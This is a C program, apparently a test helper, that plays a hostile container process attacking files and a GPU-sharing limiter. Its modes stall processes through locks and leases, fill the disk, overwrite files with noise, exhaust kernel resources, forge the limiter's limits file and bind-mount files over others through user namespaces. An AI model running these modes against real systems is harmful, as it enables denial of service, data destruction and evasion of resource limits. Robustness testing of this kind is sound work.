/*
 * What a hostile program in a container does to files that it can open. It is linked statically, so that no preload
 * reaches it, and prints ready=1 when the attack is in place. Each command runs until SIGTERM, unless its description differs.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

static void fail(const char *what)
{
	printf("failed=%s\nerror=%s\n", what, strerror(errno));
	exit(1);
}

static void hold(void)
{
	printf("ready=1\n");
	fflush(stdout);
	for (;;)
		pause();
}

static int open_or_fail(const char *path, int flags)
{
	int fd = open(path, flags | O_CLOEXEC | O_NONBLOCK);

	if (fd < 0)
		fail("open");
	return fd;
}

/* flock PATH: an exclusive lock on a file that may be read-only. */
static void attack_flock(char *path)
{
	if (flock(open_or_fail(path, O_RDONLY), LOCK_EX | LOCK_NB))
		fail("flock");
	hold();
}

static int lease_kind;
static volatile int lease_fd;

/* The kernel asks for the lease back: keep it until the kernel takes it, then take it again. */
static void keep_lease(int signal)
{
	(void)signal;
}

/* A lease makes others' open wait until it is given back, or for lease-break-time (45 s). */
static void lease(const char *path, int kind)
{
	lease_kind = kind;
	signal(SIGIO, keep_lease);
	lease_fd = open_or_fail(path, O_RDONLY);
	if (fcntl(lease_fd, F_SETLEASE, kind)) { /* a process of the host has the file open */
		printf("refused=1\n");
		fflush(stdout);
		while (fcntl(lease_fd, F_SETLEASE, kind))
			usleep(1000);
	}
	printf("ready=1\n");
	fflush(stdout);
	for (;;) {
		usleep(1000);
		if (fcntl(lease_fd, F_GETLEASE) == F_UNLCK)
			fcntl(lease_fd, F_SETLEASE, kind);
	}
}

static void attack_read_lease(char *path) { lease(path, F_RDLCK); }
static void attack_write_lease(char *path) { lease(path, F_WRLCK); }

/* grow PATH: writes past the end until there is no room, again and again. */
static void attack_grow(char *path)
{
	static char block[1 << 20];
	int fd = open_or_fail(path, O_RDWR | O_APPEND), reported = 0;

	memset(block, 'x', sizeof(block));
	for (;;) {
		while (write(fd, block, sizeof(block)) > 0)
			;
		if (!reported++) {
			printf("ready=1\n");
			fflush(stdout);
		}
		usleep(1000);
	}
}

/* garbage PATH: writes noise over all of a file, again and again. */
static void attack_garbage(char *path)
{
	static unsigned block[1 << 14];
	int fd = open_or_fail(path, O_RDWR), reported = 0;
	off_t size = lseek(fd, 0, SEEK_END) / (off_t)sizeof(block) * (off_t)sizeof(block), at = 0;
	unsigned random = 1;

	for (;;) {
		for (size_t i = 0; i < sizeof(block) / sizeof(*block); i++)
			block[i] = random = random * 1103515245 + 12345;
		if (pwrite(fd, block, sizeof(block), at) < 0)
			fail("write");
		at = at + (off_t)sizeof(block) < size ? at + (off_t)sizeof(block) : 0;
		if (!at && !reported++) {
			printf("ready=1\n");
			fflush(stdout);
		}
		usleep(1000);
	}
}

/* Starts processes that each do something and then stay. Returns when all have done it. */
static void crowd(const char *processes, void (*each)(void))
{
	int done[2];
	char byte;

	if (pipe(done))
		fail("pipe");
	for (int i = 0; i < atoi(processes); i++) {
		if (fork())
			continue;
		each();
		close(done[1]);
		for (;;)
			pause();
	}
	close(done[1]);
	while (read(done[0], &byte, 1) < 0 && errno == EINTR)
		;
	close(done[0]);
}

static void map_much(void)
{
	int fd = open_or_fail("/proc/self/exe", O_RDONLY);

	for (int m = 0; m < 64000; m++) /* in turn with different rights, so that the kernel does not join them */
		if (mmap(NULL, 4096, m % 2 ? PROT_READ : PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0) == MAP_FAILED)
			return;
}

/* mappings PROCESSES: each with 64,000 mappings of a file, so that /proc/<pid>/maps is long. */
static void attack_mappings(char *processes)
{
	crowd(processes, map_much);
	hold();
}

static void open_much(void)
{
	struct rlimit most;

	if (!getrlimit(RLIMIT_NOFILE, &most)) {
		most.rlim_cur = most.rlim_max;
		setrlimit(RLIMIT_NOFILE, &most);
	}
	for (int n = 0; n < 20000 && open("/dev/null", O_RDONLY) >= 0; n++)
		;
}

/* descriptors PROCESSES: each with 20,000 open files, or as many as it may have. */
static void attack_descriptors(char *processes)
{
	crowd(processes, open_much);
	hold();
}

/* locks PATH: 20,000 locks of single bytes of a file, so that the kernel's list of locks is long. */
static void attack_locks(char *path)
{
	int fd = open_or_fail(path, O_RDWR);

	for (off_t n = 0; n < 20000; n++) { /* with gaps, so that the kernel does not join them */
		struct flock one = {.l_type = F_WRLCK, .l_whence = SEEK_SET, .l_start = 2 * n, .l_len = 1};

		if (fcntl(fd, F_OFD_SETLK, &one) && errno != EAGAIN) /* the limiter has some */
			fail("lock");
	}
	hold();
}

/* rename PATH: to PATH.moved, by one call. It ends: with 0 if that worked. */
static void attack_rename(char *path)
{
	char to[4096];

	snprintf(to, sizeof(to), "%s.moved", path);
	if (rename(path, to))
		fail("rename");
	printf("renamed=1\n");
}

/* The program that an attack ends with, and its arguments. */
static char **program;

static void run_program(void)
{
	if (!program[0])
		hold();
	execv(program[0], program);
	fail(program[0]);
}

/* Splits FROM:TO. */
static const char *split(char *both)
{
	char *colon = strchr(both, ':');

	if (!colon)
		fail("FROM:TO");
	*colon = 0;
	return colon + 1;
}

static void copy(const char *from, const char *to)
{
	static char block[1 << 16];
	int in = open_or_fail(from, O_RDONLY), out = open(to, O_WRONLY | O_CREAT | O_EXCL, 0644);
	ssize_t n = 0;

	if (out < 0)
		fail(to);
	while ((n = read(in, block, sizeof(block))) > 0)
		if (write(out, block, (size_t)n) != n)
			fail("write");
	close(in);
	close(out);
}

/* move LIMITS PROGRAM…: renames the limiter's directory, and makes another with forged limits and links to the rest. */
static void attack_move(char *limits)
{
	static const char *const rest[] = {"usage", "libvgpu.so", "driver"};
	char from[4096], to[4096];

	if (rename("/.gpuslice", "/moved") || mkdir("/.gpuslice", 0755))
		fail("rename");
	for (size_t i = 0; i < sizeof(rest) / sizeof(*rest); i++) {
		snprintf(from, sizeof(from), "/moved/%s", rest[i]);
		snprintf(to, sizeof(to), "/.gpuslice/%s", rest[i]);
		if (symlink(from, to))
			fail("forge");
	}
	copy(limits, "/.gpuslice/limits");
	run_program();
}

/* mount FROM:TO PROGRAM…: a file over another, with CAP_SYS_ADMIN. */
static void attack_mount(char *both)
{
	const char *to = split(both);

	if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) || mount(both, to, NULL, MS_BIND, NULL))
		fail("mount");
	run_program();
}

static void map_id(const char *path, unsigned id)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	if (fd < 0 || dprintf(fd, "0 %u 1", id) < 0)
		fail(path);
	close(fd);
}

/* A user and a mount namespace of its own, which takes no capability. */
static void enter_namespaces(void)
{
	unsigned uid = getuid(), gid = getgid();
	int fd;

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
		fail("unshare");
	fd = open("/proc/self/setgroups", O_WRONLY | O_CLOEXEC);
	if (fd < 0 || write(fd, "deny", 4) != 4)
		fail("setgroups");
	close(fd);
	map_id("/proc/self/uid_map", uid);
	map_id("/proc/self/gid_map", gid);
}

/* unshare FROM:TO PROGRAM…: the same in a user namespace, without a capability. */
static void attack_unshare(char *both)
{
	enter_namespaces();
	attack_mount(both);
}

static void nothing(void) { }

/* mounts PROCESSES: each in a namespace with 10,000 mounts, so that /proc/<pid>/mountinfo is long. */
static void attack_mounts(char *processes)
{
	enter_namespaces();
	if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL))
		fail("mount");
	for (int n = 0; n < 10000; n++) {
		char on[32];

		snprintf(on, sizeof(on), "/tmp/mount%d", n % 100); /* in many places: the kernel goes through all mounts of one */
		if ((n < 100 && mkdir(on, 0755) && errno != EEXIST) || mount("/tmp", on, NULL, MS_BIND, NULL))
			fail("mount");
	}
	crowd(processes, nothing);
	hold();
}

static int socket_at(const char *path, struct sockaddr_un *at)
{
	int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	*at = (struct sockaddr_un){.sun_family = AF_UNIX};
	if (s < 0 || strlen(path) >= sizeof(at->sun_path))
		fail("socket");
	strcpy(at->sun_path, path);
	return s;
}

union control {
	struct cmsghdr head;
	char room[CMSG_SPACE(sizeof(int))];
};

static void give(char *both, int flags)
{
	struct sockaddr_un at;
	int s = socket_at(split(both), &at), file = open(both, flags | O_CLOEXEC);

	if (file < 0)
		fail("open");
	if (bind(s, (struct sockaddr *)&at, sizeof(at)) || listen(s, 8))
		fail("listen");
	printf("ready=1\n");
	fflush(stdout);
	for (;;) {
		char byte = 0;
		struct iovec data = {&byte, 1};
		union control control = {.head = {CMSG_LEN(sizeof(int)), SOL_SOCKET, SCM_RIGHTS}};
		struct msghdr m = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof(control)};
		int to = accept(s, NULL, NULL);

		memcpy(CMSG_DATA(&control.head), &file, sizeof(file));
		if (to < 0 || sendmsg(to, &m, 0) != 1)
			fail("send");
		close(to);
	}
}

/* give FILE:SOCKET: gives a descriptor of a file to each process that connects. */
static void attack_give(char *both) { give(both, O_RDWR); }

/* give-path FILE:SOCKET: gives one that names the file and gives no access to it. */
static void attack_give_path(char *both) { give(both, O_PATH); }

/* take SOCKET: takes such a descriptor and keeps it. */
static void attack_take(char *path)
{
	struct sockaddr_un at;
	int s = socket_at(path, &at);
	char byte;
	struct iovec data = {&byte, 1};
	union control control;
	struct msghdr m = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof(control)};

	while (connect(s, (struct sockaddr *)&at, sizeof(at)))
		usleep(1000);
	if (recvmsg(s, &m, 0) != 1 || m.msg_controllen < CMSG_LEN(sizeof(int)))
		fail("receive");
	hold();
}

/* fill-lease PATH: makes the file 8 MiB longer, and then holds a read lease on it. */
static void attack_fill_lease(char *path)
{
	static char block[8 << 20];
	int fd = open_or_fail(path, O_RDWR | O_APPEND);

	memset(block, 'x', sizeof(block));
	if (write(fd, block, sizeof(block)) < 0)
		fail("write");
	close(fd);
	lease(path, F_RDLCK);
}

static const struct {
	const char *name;
	void (*run)(char *path);
} attacks[] = {
	{"flock", attack_flock},
	{"read-lease", attack_read_lease},
	{"write-lease", attack_write_lease},
	{"grow", attack_grow},
	{"garbage", attack_garbage},
	{"mappings", attack_mappings},
	{"descriptors", attack_descriptors},
	{"locks", attack_locks},
	{"mounts", attack_mounts},
	{"rename", attack_rename},
	{"move", attack_move},
	{"mount", attack_mount},
	{"unshare", attack_unshare},
	{"give", attack_give},
	{"give-path", attack_give_path},
	{"take", attack_take},
	{"fill-lease", attack_fill_lease},
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 2 && i < sizeof(attacks) / sizeof(*attacks); i++) {
		if (!strcmp(argv[1], attacks[i].name)) {
			program = argv + 3;
			attacks[i].run(argv[2]);
			return 0;
		}
	}
	fprintf(stderr, "usage: attack NAME PATH [PROGRAM ARGUMENT…]\n");
	return 2;
}
